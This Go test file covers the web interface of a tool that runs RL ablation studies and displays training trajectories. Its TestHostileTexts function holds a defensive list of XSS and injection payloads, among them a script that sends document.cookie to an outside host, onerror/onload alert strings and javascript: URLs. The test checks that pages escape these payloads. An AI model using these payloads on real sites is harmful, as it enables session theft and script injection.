package web

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/json"
	"fmt"
	"io"
	"mime/multipart"
	"net/http"
	"net/http/httptest"
	"net/url"
	"strings"
	"testing"
	"time"

	"alidade/ablation"
	"alidade/ablation/studyfile"
	"alidade/store"
	"alidade/trainer"
)

// fillTrajectories gives a study's first run the groups of a step.
func fillTrajectories(t testing.TB, s *store.Store, groups int, extra ...trainer.Trajectory) ablation.RunID {
	t.Helper()
	_, runs := launchStudy(t, s, rewardsStudy())
	ctx := context.Background()
	w := s.RunWriter()
	run := runs[0].ID
	must := func(_ any, err error) {
		t.Helper()
		if err != nil {
			t.Fatalf("fill: %v", err)
		}
	}
	started := time.Now().Add(-time.Hour)
	must(w.Move(ctx, run, ablation.EvLaunch, func(r *ablation.Run) { r.Attempt, r.Device, r.StartedAt = 1, "cpu0", started }))
	must(nil, w.StartAttempt(ctx, ablation.Attempt{Run: run, Number: 1, Device: "cpu0", PID: 1, StartedAt: started, State: ablation.Starting}))
	must(w.Move(ctx, run, ablation.EvStarted, nil))
	var events []trainer.Event
	for p := range groups {
		for _, tr := range sampleGroup(40, p) {
			events = append(events, trainer.Event{V: trainer.Version, Kind: trainer.KindTrajectory, T: started.UnixMilli(), Trajectory: &tr})
		}
	}
	for i := range extra {
		events = append(events, trainer.Event{V: trainer.Version, Kind: trainer.KindTrajectory, T: started.UnixMilli(), Trajectory: &extra[i]})
	}
	must(w.Append(ctx, store.Batch{Run: run, Attempt: 1, Offset: int64(len(events)), Events: events}))
	return run
}

func TestInspectPages(t *testing.T) {
	s := openStore(t)
	run := fillTrajectories(t, s, 3)
	srv, _ := newTestSite(t, s, nil)
	at := fmt.Sprintf("/runs/%d/trajectories/rl-40-1-", run)
	for _, c := range []struct {
		path   string
		status int
		wants  []string
	}{
		{"/trajectories", 200, []string{"24 rollouts", "1–24 of 24", "Two of us start", "format error", "1 injected failure"}},
		{"/trajectories?outcome=success", 200, []string{"3 rollouts match", "Clear all"}},
		{"/trajectories?check=valid_cost&study=1", 200, []string{"fails Budget", "any arm", "SUM"}},
		{"/trajectories?min=4&max=5&sort=-reward", 200, []string{"reward from 4", "5.000"}},
		{"/trajectories?q=Basque", 200, []string{"text: Basque"}},
		{"/trajectories?page=9", 200, []string{"This page is past the end"}},
		{"/trajectories?level=easy", 200, []string{"No rollout matches"}},
		{"/trajectories?min=lots&check=no", 422, []string{"min", "a number", "valid_cost"}},
		{at + "4", 200, []string{
			"Rollout 5: fails", "Diverse restaurants", "Snake River Smoke was already lunch on day 3", `id="pin-is_valid_restaurants"`, "injected failure",
			"Entropy by token", "Within budget", "1,652", "Judged three ways", "group mean", "3 more of 7", "rollout 5"}},
		{at + "0", 200, []string{"every check passes", "Room rule", "not asked"}},
		{at + "1", 200, []string{"Official passes this plan, strict and star do not"}},
		{at + "5", 200, []string{"not evaluated", "gate shut"}},
		{at + "7", 200, []string{"a format error, so the reward is 0", "the answer tag is not closed", "format error"}},
		{at + "4?view=raw", 200, []string{"The record as stored", "all "}},
		{at + "4/turns/7", 200, []string{`id="t7"`, "Canyon Rim Flat"}},
		{at + "4/turns/99", 404, []string{"Not found"}},
		{at + "99", 404, []string{"Not found"}},
		{fmt.Sprintf("/runs/%d/groups/rl-40-1", run), 200, []string{
			"One prompt, eight rollouts: Minimum nights decides, 1 of 8 solve it", "all 8 pass", "not asked in this prompt", "Where each advantage comes from", "SUCCESS", "Open at that item", "‹ 0", "2 ›"}},
		{fmt.Sprintf("/runs/%d/groups/nope", run), 404, []string{"Not found"}},
		{"/datasets", 200, []string{"No dataset yet"}},
		{"/datasets/abc", 404, []string{"Not found"}},
		{"/devices", 200, []string{"2 devices, all leased", "Waiting for a device", "7 runs"}},
		{"/settings", 200, []string{"open on this machine", "Trainers", "python3"}},
		{"/reports", 200, []string{"Which reward design lifts success most", "report.csv"}},
	} {
		t.Run(c.path, func(t *testing.T) {
			status, body, _ := get(t, srv.URL+c.path)
			if status != c.status {
				t.Fatalf("status %d, want %d\n%s", status, c.status, body)
			}
			for _, want := range c.wants {
				if !strings.Contains(body, want) {
					t.Errorf("no %q in the page", want)
				}
			}
			if strings.Contains(body, "style=\"") || strings.Contains(body, "<script>") {
				t.Error("the page holds inline style or script, which the policy forbids")
			}
		})
	}
}

// The record comes back byte for byte, by range too.
func TestTrajectoryRecord(t *testing.T) {
	s := openStore(t)
	run := fillTrajectories(t, s, 1)
	srv, _ := newTestSite(t, s, nil)
	_, raw, err := s.Trajectory(t.Context(), run, "rl-40-0-3")
	if err != nil {
		t.Fatal(err)
	}
	at := fmt.Sprintf("%s/api/v1/runs/%d/trajectories/rl-40-0-3", srv.URL, run)
	status, body, h := get(t, at)
	if status != 200 || body != string(raw) || h.Get("ETag") != fmt.Sprintf(`"%x"`, sha256.Sum256(raw)) {
		t.Errorf("status %d, %d bytes of %d, ETag %s", status, len(body), len(raw), h.Get("ETag"))
	}
	req, _ := http.NewRequest("GET", at, nil)
	req.Header.Set("Range", "bytes=10-19")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	part, _ := io.ReadAll(resp.Body)
	if resp.StatusCode != 206 || string(part) != string(raw[10:20]) {
		t.Errorf("range: %d %q", resp.StatusCode, part)
	}
	_, body, _ = get(t, strings.Replace(at, "/api/v1", "", 1)+"/messages.json")
	var messages []message
	if err := json.Unmarshal([]byte(body), &messages); err != nil || messages[0].Role != "user" || !strings.Contains(body, "tool_call") {
		t.Errorf("messages: %v\n%.200s", err, body)
	}
	_, body, _ = get(t, srv.URL+"/api/v1/trajectories?outcome=success")
	var list struct {
		Trajectories []headJSON
		Total        int
	}
	if err := json.Unmarshal([]byte(body), &list); err != nil || list.Total != 1 || !list.Trajectories[0].Success {
		t.Errorf("list: %v %s", err, body)
	}
}

// payloads are texts that a page must show and never obey.
var payloads = []string{
	`<script>fetch('https://example.org/'+document.cookie)</script>`, `"><img src=x onerror=alert(1)>`, `'-alert(1)-'`, `</pre><svg/onload=alert(1)>`,
	`javascript:alert(1)`, `[x](javascript:alert(1))`, `![b](https://example.org/b.png)`, "\u202egnp.exe", "a\u200bb\u2060c", "\x1b]8;;https://example.org\x07click\x1b]8;;\x07",
	"{{constructor.constructor('alert(1)')()}}", "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>", "</textarea><script>alert(1)</script>", "\u0000null", "<style>*{display:none}</style>",
}

func TestHostileTexts(t *testing.T) {
	tr := sampleTrajectory(40, 0, 4)
	all := strings.Join(payloads, " ")
	tr.ID, tr.Group = `x"><b>`, `g"><i>`
	tr.Query.Text, tr.Query.Level, tr.Query.Org, tr.Query.Dest = all, `<b>hard`, `<i>org`, "\u202edest"
	tr.Query.Constraints = map[string]string{"<u>": all}
	tr.Answer, tr.RewardKind = all, "SUM<b>"
	tr.Labels = map[string]string{"<b>": all}
	tr.Components = append(tr.Components, trainer.Component{Name: "<b>part", Value: 0})
	for i := range tr.Turns {
		tr.Turns[i].Think, tr.Turns[i].Words = all, payloads
		if tr.Turns[i].Call != nil {
			tr.Turns[i].Call.Tool = "<b>" + tr.Turns[i].Call.Tool
			tr.Turns[i].Call.Args = append(tr.Turns[i].Call.Args, trainer.Arg{Name: all, Value: all})
		}
		if o := tr.Turns[i].Observe; o != nil {
			o.Text, o.Columns = all, append([]string(nil), o.Columns...)
			for c := range o.Columns {
				o.Columns[c] = "<b>" + o.Columns[c]
			}
			if len(o.Rows) > 0 {
				o.Rows = append([][]string{{all, all}}, o.Rows...)
			}
		}
	}
	tr.Turns[1].Raw, tr.Turns[1].Call = all, nil
	tr.Turns[2].Observe.Injected = "<b>"
	for i := range tr.Plan {
		tr.Plan[i].City, tr.Plan[i].Dinner = all, all
	}
	for i := range tr.Verdicts {
		tr.Verdicts[i].Reason, tr.Verdicts[i].Value = all, all
	}
	s := openStore(t)
	run := fillTrajectories(t, s, 0, tr)
	srv, _ := newTestSite(t, s, nil)
	for _, path := range []string{
		"/trajectories", "/trajectories?" + url.Values{"q": {all}, "level": {"<b>hard"}, "tool": {payloads[0]}, "group": {tr.Group}}.Encode(),
		fmt.Sprintf("/runs/%d/trajectories/%s", run, url.PathEscape(tr.ID)), fmt.Sprintf("/runs/%d/trajectories/%s?view=raw", run, url.PathEscape(tr.ID)),
		fmt.Sprintf("/runs/%d/groups/%s", run, url.PathEscape(tr.Group)), fmt.Sprintf("/runs/%d/trajectories/%s/turns/2", run, url.PathEscape(tr.ID)),
	} {
		status, body, _ := get(t, srv.URL+path)
		if status != 200 && status != 422 {
			t.Errorf("%s: status %d\n%.600s", path, status, body)
		}
		low := strings.ToLower(body)
		for _, bad := range []string{"<script>", "<img", "<b>part", "onerror=alert(1)>", "<svg/onload", `href="javascript:`, `href="data:`, "<style>", "\u202e", "\u200b", "\x1b", "</textarea><script"} {
			if strings.Contains(low, bad) {
				t.Errorf("%.60s: the page holds %q", path, bad)
			}
		}
	}
}

// A page carries at most 2 MB however large the episode is.
func TestLargeTrajectory(t *testing.T) {
	tr := sampleTrajectory(40, 0, 4)
	long := strings.Repeat("All work and no play. ", 20000)
	row := []string{"Somewhere Inn", long[:200], "x"}
	for i := range 400 {
		turn := trainer.Turn{Think: long, Tokens: 50, Call: &trainer.Call{Tool: "SearchAccommodation", Args: []trainer.Arg{{Name: "city", Value: "Boise"}}}, Observe: &trainer.Observed{Text: long, Tokens: 9}}
		if i%2 == 0 {
			turn.Observe.Columns = []string{"name", "text", "x"}
			for range 2000 {
				turn.Observe.Rows = append(turn.Observe.Rows, row)
			}
			turn.Observe.Text = ""
		}
		tr.Turns = append(tr.Turns, turn)
	}
	start := time.Now()
	v := trajectoryView(&tr, sampleRun(1), nil, "")
	var b bytes.Buffer
	if err := templatesTrajectory(&b, v); err != nil {
		t.Fatal(err)
	}
	t.Logf("%d turns, %d bytes of page, %s", len(tr.Turns), b.Len(), time.Since(start))
	if b.Len() > 2<<20 {
		t.Errorf("the page is %d bytes", b.Len())
	}
	if !strings.Contains(b.String(), "cut here") || !strings.Contains(b.String(), "/turns/20") {
		t.Error("a cut turn does not say so")
	}
}

// postForm posts the new study form.
func postForm(t testing.TB, srv *httptest.Server, fields url.Values, part bool) (*http.Response, string) {
	t.Helper()
	var b bytes.Buffer
	w := multipart.NewWriter(&b)
	for k, vs := range fields {
		for _, v := range vs {
			if err := w.WriteField(k, v); err != nil {
				t.Fatal(err)
			}
		}
	}
	w.Close()
	req, err := http.NewRequest("POST", srv.URL+"/studies/new", &b)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Type", w.FormDataContentType())
	if part {
		req.Header.Set(partHeader, "study")
	}
	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
	resp, err := client.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return resp, string(body)
}

// formFields are what a browser would post of a draft.
func formFields(d draft) url.Values {
	q := url.Values{
		"name": {d.Name}, "question": {d.Question}, "template": {d.Template}, "preset": {d.Preset}, "design": {d.Design}, "seeds": {d.Seeds}, "metric": {d.Metric},
		"min_difference": {d.MinDifference}, "concurrency": {d.Concurrency}, "notes": {d.Notes}, "arms": {d.Arms},
	}
	for k, v := range d.Values {
		q.Set("base."+k, v)
	}
	for i, f := range d.Factors {
		at := fmt.Sprintf("f.%d.", i)
		q.Set(at+"key", f.Key)
		q.Set(at+"name", f.Name)
		q[at+"level"] = f.Levels
		q.Set(at+"add", f.Add)
	}
	return q
}

func TestNewStudyForm(t *testing.T) {
	s := openStore(t)
	srv, _ := newTestSite(t, s, nil)
	for _, tpl := range ablation.Templates() {
		status, body, _ := get(t, srv.URL+"/studies/new?template="+tpl.ID)
		if status != 200 || !strings.Contains(body, "nothing is missing") || !strings.Contains(body, "Launch ") {
			t.Errorf("%s: status %d", tpl.ID, status)
		}
	}
	if status, _, _ := get(t, srv.URL+"/studies/new?template=none"); status != 404 {
		t.Errorf("unknown template: %d", status)
	}
	tpl, _ := ablation.TemplateByID("star-table-1-quick")
	form := formFields(draftOf(tpl.Study))

	form.Set("do", "export")
	resp, body := postForm(t, srv, form, false)
	st, err := studyfile.Decode("x", []byte(body))
	want, _ := studyfile.Encode(tpl.Study)
	if err != nil || body != string(want) || !strings.Contains(resp.Header.Get("Content-Disposition"), "rewards.yaml") {
		t.Fatalf("export: %v, %s\n%s", err, resp.Header.Get("Content-Disposition"), body)
	}

	form.Set("do", "factor-add:algorithm.group_size")
	resp, body = postForm(t, srv, form, true)
	if resp.StatusCode != 200 || !strings.Contains(body, "Launch 16 runs") || strings.Contains(body, "<html") {
		t.Errorf("factor-add: %d\n%.300s", resp.StatusCode, body)
	}

	bad := formFields(draftOf(tpl.Study))
	bad.Set("base.algorithm.clip_high", "0.1")
	bad.Set("do", "launch")
	resp, body = postForm(t, srv, bad, false)
	if resp.StatusCode != 422 || !strings.Contains(body, "Below clip low: 0.1") || !strings.Contains(body, "1 problem") {
		t.Errorf("launch with a problem: %d", resp.StatusCode)
	}

	broken := formFields(draftOf(tpl.Study))
	broken.Set("yaml", "name: x\nbase:\n  rewrd: SUM\n")
	broken.Set("do", "yaml")
	resp, body = postForm(t, srv, broken, true)
	if resp.StatusCode != 422 || !strings.Contains(body, "Line 3") || !strings.Contains(body, "rewrd: SUM") {
		t.Errorf("broken file: %d", resp.StatusCode)
	}

	form.Set("do", "launch")
	resp, body = postForm(t, srv, form, false)
	if resp.StatusCode != 303 || !strings.HasPrefix(resp.Header.Get("Location"), "/studies/1") {
		t.Fatalf("launch: %d %s\n%.500s", resp.StatusCode, resp.Header.Get("Location"), body)
	}
	rec, err := s.Study(t.Context(), 1)
	if err != nil {
		t.Fatal(err)
	}
	got, _ := studyfile.Encode(rec.Study)
	if string(got) != string(want) || st.Name != rec.Study.Name {
		t.Errorf("the launched study is another\n%s\nwant\n%s", got, want)
	}
	status, body, _ := get(t, srv.URL+"/studies/new?from=1")
	if status != 200 || !strings.Contains(body, `value="rewards-2"`) {
		t.Errorf("copy of a study: %d", status)
	}
}

func TestReportRoutes(t *testing.T) {
	s := openStore(t)
	going, _ := fillStudies(t, s, time.Now())
	srv, _ := newTestSite(t, s, nil)
	at := fmt.Sprintf("%s/studies/%d/report", srv.URL, going.ID)
	for path, wants := range map[string][]string{
		"":      {"not final", "Answer.", "report.html", "Markdown"},
		".html": {"<style>"},
		".md":   {"# "},
		".csv":  {"SUM"},
		".json": {`"headline"`},
	} {
		status, body, _ := get(t, at+path)
		if status != 200 {
			t.Errorf("report%s: %d\n%.300s", path, status, body)
		}
		for _, want := range wants {
			if !strings.Contains(body, want) {
				t.Errorf("report%s: no %q", path, want)
			}
		}
	}
	if status, _, _ := get(t, srv.URL+"/api/v1/studies/999/report.json"); status != 404 {
		t.Errorf("missing study: %d", status)
	}
}
